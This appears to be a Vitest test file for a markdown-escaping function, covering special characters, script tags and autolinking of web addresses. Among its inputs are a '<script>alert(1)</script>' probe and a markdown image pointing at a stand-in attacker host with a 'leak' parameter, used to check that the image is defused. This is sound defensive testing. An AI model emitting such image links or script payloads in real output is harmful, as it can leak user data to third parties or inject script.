import { describe, expect, it } from 'vitest'
import { escapeMarkdown } from './markdown.ts'

describe('escapeMarkdown', () => {
  it('takes the meaning from markdown characters', () => {
    expect(escapeMarkdown('# [a](b) *c* <i> `d` ~e~ f|g \\')).toBe(
      '\\# \\[a\\](b) \\*c\\* \\<i\\> \\`d\\` \\~e\\~ f\\|g \\\\',
    )
    expect(escapeMarkdown('<script>alert(1)</script>')).toBe('\\<script\\>alert(1)\\</script\\>')
  })

  it('turns an image into text and its address into a plain link', () => {
    expect(escapeMarkdown('![x](https://evil.example/?leak=1)')).toBe(
      '!\\[x\\](<https://evil.example/?leak=1>)',
    )
  })

  it('writes an address as an autolink, so no backslash ends up in it', () => {
    // The autolink a memory wrote itself: it was `\<https://…\>`, linked to `https://…\>` (%5C%3E).
    expect(escapeMarkdown('see <https://example.org/a_b?c=1>')).toBe('see <https://example.org/a_b?c=1>')
    expect(escapeMarkdown('docs at https://example.org/a_b*c_. Then')).toBe(
      'docs at <https://example.org/a_b*c>\\_. Then',
    )
    expect(escapeMarkdown('(https://en.wikipedia.org/wiki/Foo_(bar)), ok')).toBe(
      '(<https://en.wikipedia.org/wiki/Foo_(bar)>), ok',
    )
    expect(escapeMarkdown('www.example.org/a_b!')).toBe('<http://www.example.org/a_b>!')
    expect(escapeMarkdown('<https://example.org/x')).toBe('\\<<https://example.org/x>')
    expect(escapeMarkdown('https://example.org/x>')).toBe('<https://example.org/x>\\>')
  })

  it('leaves what only looks like an address alone', () => {
    expect(escapeMarkdown('https:// and www. and xhttps://a_b')).toBe('https:// and www. and xhttps://a\\_b')
  })
})
